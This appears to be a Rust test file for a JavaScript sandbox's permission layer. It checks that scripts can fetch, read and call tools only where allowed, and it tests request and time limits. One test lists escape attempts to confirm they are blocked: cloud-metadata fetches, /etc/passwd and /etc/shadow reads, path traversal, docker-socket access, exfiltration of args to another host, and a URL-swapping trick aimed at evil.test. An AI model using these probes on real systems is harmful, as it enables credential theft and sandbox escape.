//! What scripts ask for.

use crate::bench::{Bench, each, function};
use futures_util::FutureExt as _;
use futures_util::future::BoxFuture;
use palanca_core::Message;
use palanca_scripts::{Answer, Limit, Permissions, Request, Requests, ScriptError};
use palanca_testkit::PATIENCE;
use serde_json::json;
use std::sync::Mutex;
use std::time::Duration;

/// Answers with what it was asked, and remembers it.
#[derive(Default)]
struct Echo(Mutex<Vec<Request>>);

impl Requests for Echo {
    fn answer<'a>(&'a self, request: Request) -> BoxFuture<'a, Result<Answer, Message>> {
        self.0.lock().unwrap().push(request.clone());
        async move {
            match request {
                Request::Fetch { url, method, headers, body } if url.contains("echo") => Ok(Answer::Response {
                    status: 200,
                    url: url.replace("echo", "from"),
                    headers: vec![("Content-Type".to_owned(), "application/json".to_owned())],
                    body: json!([method, url, headers, body]).to_string().into_bytes(),
                }),
                Request::Fetch { url, .. } if url.contains("bytes") => {
                    Ok(Answer::Response { status: 404, url, headers: vec![], body: vec![0, 255, 128, 65] })
                }
                Request::Fetch { .. } => Err(Message::new("nobody-there")),
                Request::Read { path } => Ok(Answer::Text(format!("content of {path}"))),
                Request::Call { tool, arguments } => {
                    // Later ones are answered earlier.
                    let wait: u64 =
                        arguments.chars().filter(char::is_ascii_digit).collect::<String>().parse().unwrap_or(0);
                    tokio::time::sleep(Duration::from_millis(40_u64.saturating_sub(wait))).await;
                    Ok(Answer::Result { success: tool != "fails", content: arguments })
                }
            }
        }
        .boxed()
    }
}

fn permissions() -> Permissions {
    let list = |entries: &[&str]| entries.iter().map(|entry| (*entry).to_owned()).collect();
    Permissions { hosts: list(&["example.com"]), reads: list(&["data"]), tools: list(&["count", "fails", "wait"]) }
}

fn run(bench: &Bench, body: &str, requests: &dyn Requests) -> Result<String, ScriptError> {
    let ran = bench.run_as((&function(body), &json!({})), (&permissions(), requests), PATIENCE);
    ran.map(|outcome| outcome.content)
}

pub(crate) fn what_is_permitted_is_asked_for() {
    let (bench, echo) = (Bench::new(), Echo::default());
    for (body, content) in [
        (
            "const r = await fetch('https://example.com/echo', { method: 'post', headers: { 'X-A': 'b' }, body: JSON.stringify({ a: 1 }) });
             return [r.ok, r.status, r.url, r.headers.get('content-type'), await r.json()]",
            r#"[true,200,"https://example.com/from","application/json",["POST","https://example.com/echo",[["x-a","b"]],"{\"a\":1}"]]"#,
        ),
        (
            "const r = await fetch(new URL('/bytes', 'https://example.com')); return [r.ok, r.status, [...new Uint8Array(await r.arrayBuffer())]]",
            "[false,404,[0,255,128,65]]",
        ),
        ("return await fetch('https://example.com/x').catch((e) => `caught ${e.message}`)", "caught nobody-there"),
        ("return await palanca.read('data/a.csv')", "content of data/a.csv"),
        ("return await Bun.file('./data/b.csv').text()", "content of data/b.csv"),
        ("return await palanca.call('count', { n: 1 })", r#"{"n":1}"#),
        ("return (await palanca.call('fails')).success", "false"),
    ] {
        assert_eq!(run(&bench, body, &echo).unwrap_or_else(|error| panic!("{body}: {error}")), content, "{body}");
    }
    assert_eq!(echo.0.lock().unwrap().len(), 7);
    let error = run(&bench, "for (let i = 0; i < 200; i++) await palanca.read('data/' + i)", &echo).unwrap_err();
    assert!(matches!(error, ScriptError::Limited { limit: Limit::Requests, .. }), "{error:?}");
}

pub(crate) fn what_is_not_permitted_reaches_nobody() {
    let (bench, echo) = (Bench::new(), Echo::default());
    for body in [
        "return await (await fetch('http://169.254.169.254/latest/meta-data/')).text()",
        "return await (await fetch('https://example.org/?d=' + JSON.stringify(args))).text()",
        "return await (await fetch('file:///etc/passwd')).text()",
        "return await (await fetch('http://x/', { unix: '/var/run/docker.sock' } as any)).text()",
        "return await palanca.read('/etc/passwd')",
        "return await palanca.read('data/../note.txt')",
        "return await Bun.file('/etc/shadow').text()",
        "return await palanca.call('exec', { command: 'id' })",
        "const url = { n: 0, toString() { return this.n++ ? 'https://evil.test/' : 'https://example.com/' } }; String(url); return await fetch(url)",
    ] {
        let error = run(&bench, body, &echo).unwrap_err();
        let ScriptError::Threw { error, .. } = &error else { panic!("{body}: {error:?}") };
        assert!(error.contains("not-permitted") || error.contains("url-unusable"), "{body}: {error}");
    }
    assert_eq!(*echo.0.lock().unwrap(), []);
}

pub(crate) fn many_at_once_keep_their_own_answers() {
    let (bench, echo) = (Bench::new(), Echo::default());
    let body = "const asked = await Promise.all(Array.from({ length: 40 }, (_, i) => palanca.call('count', { i })));
                return asked.map((a, i) => JSON.parse(a.content).i === i).every(Boolean)";
    assert_eq!(run(&bench, body, &echo).unwrap(), "true");
    let body = "const first = await Promise.race([palanca.call('count', { i: 1 }), new Promise((r) => setTimeout(() => r('timer'), 1))]); return first";
    assert_eq!(run(&bench, body, &echo).unwrap(), "timer");
    let body = "return await fetch('https://example.com/echo', { signal: AbortSignal.abort() }).catch((e) => e.name)";
    assert_eq!(run(&bench, body, &echo).unwrap(), "AbortError");
}

/// Answers after a while.
struct Slow(Duration);

impl Requests for Slow {
    fn answer<'a>(&'a self, _: Request) -> BoxFuture<'a, Result<Answer, Message>> {
        async move {
            tokio::time::sleep(self.0).await;
            Ok(Answer::Text("late".to_owned()))
        }
        .boxed()
    }
}

pub(crate) fn time_in_which_it_waits_does_not_count() {
    let bodies = [
        "return await palanca.read('data/x')",
        "await palanca.read('data/x'); for (;;) {}",
        "palanca.read('data/x'); for (;;) {}",
    ];
    each(&bodies, |bench, body| {
        let (source, slow) = (function(body), Slow(Duration::from_secs(4)));
        let ran = bench.run_as((&source, &json!({})), (&permissions(), &slow), Duration::from_secs(2));
        if body.starts_with("return") {
            assert_eq!(ran.unwrap().content, "late");
        } else {
            assert!(matches!(ran, Err(ScriptError::Limited { limit: Limit::Time, .. })), "{body}: {ran:?}");
        }
    });
}
